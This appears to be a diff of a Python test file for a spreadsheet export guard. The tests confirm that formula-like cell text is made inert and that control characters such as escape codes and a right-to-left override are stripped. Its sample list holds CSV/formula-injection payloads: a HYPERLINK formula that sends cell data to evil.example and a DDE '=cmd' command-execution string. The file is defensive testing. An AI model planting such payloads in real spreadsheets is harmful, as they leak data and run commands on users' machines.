@@ -19,23 +19,24 @@ from greendesk.layout import table_lines
 # one member of each class of dangerous start, and the error codes Excel would take literally
 FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点此")', "+1+1", "-2+3*4", "@SUM(A1:A9)",
             "\t=1+1", "\n=cmd|' /C calc'!A0", " =1", "=1", "＝1+1", "#N/A", "#DIV/0!"]
-CONTROLS = {"亮点\x0b第二行": "亮点\n第二行", "分页\x0c后": "分页\n后", "转义\x1b[31m红": "转义\ufffd[31m红",
-            "空\x00字符": "空\ufffd字符", "响铃\x07": "响铃\ufffd"}
+# as greendesk.text cleans typed text: line breaks kept, other controls removed
+CONTROLS = {"亮点\x0b第二行": "亮点\n第二行", "分页\x0c后": "分页\n后", "转义\x1b[31m红": "转义[31m红",
+            "空\x00字符": "空字符", "响铃\x07": "响铃", "方向\u202e反": "方向反"}
 
 
 def test_cell_text_neutralises_every_formula_start():
     for text in FORMULAS:
-        assert guard.cell_text(text) == "'" + text
+        assert guard.cell_text(text) == "'" + text.replace("\t", " ")  # a tab is a space, as typed
     assert guard.cell_text("\r=1") == "'\n=1"  # XML reads a carriage return back as \n
     assert guard.cell_text("普通文字") == "普通文字"
     assert guard.cell_text("1-2") == "1-2"  # only a leading sign is dangerous
     assert guard.cell_text(None) == ""
 
 
-def test_clean_keeps_line_breaks_and_replaces_other_controls_visibly():
+def test_clean_keeps_line_breaks_and_removes_other_controls():
     for raw, expected in CONTROLS.items():
         assert guard.clean(raw) == expected
-    assert guard.clean("甲\n乙\r\n丙\t丁\r戊") == "甲\n乙\n丙\t丁\n戊"
+    assert guard.clean("甲\n乙\r\n丙\t丁\r戊") == "甲\n乙\n丙 丁\n戊"
     assert guard.clean("孤\ud800") == "孤\ufffd"
 
 
@@ -44,7 +45,7 @@ def test_put_keeps_the_text_and_makes_it_inert():
     for i, text in enumerate(FORMULAS, 1):
         c = ws.cell(row=i, column=1)
         guard.put(c, text)
-        assert c.value == text and c.data_type == "s" and c.quotePrefix
+        assert c.value == text.replace("\t", " ") and c.data_type == "s" and c.quotePrefix
     c = ws.cell(row=99, column=1)
     guard.put(c, 3.5)
     assert c.value == 3.5 and c.data_type == "n"
@@ -60,7 +61,8 @@ def test_seal_turns_a_formula_that_slipped_through_into_text():
 
 
 def _hostile(i: int) -> str:
-    return FORMULAS[i % len(FORMULAS)]
+    """A formula-like text as a draft can hold it (typing turns a tab into a space)."""
+    return FORMULAS[i % len(FORMULAS)].replace("\t", " ")
 
 
 def _hostile_definition(d):
@@ -159,7 +161,8 @@ def test_hostile_embedded_definition_exports_without_a_live_formula(tmp_path, de
         ws = wb["动态管理表"]
         assert ws["A1"].value == hostile.title
         texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
-        assert any(t.startswith("-") and t.endswith("\ufffd") for t in texts)  # a fill note, cleaned
+        fill_note = "-" + (def2025.rows["E1"].fill_note or "说明")  # its \x1b removed
+        assert fill_note in texts
     back, report = import_xlsx(tmp_path / "filled.xlsx", hostile)
     assert report.skipped == []
     assert back.fields == draft.fields and back.products == draft.products
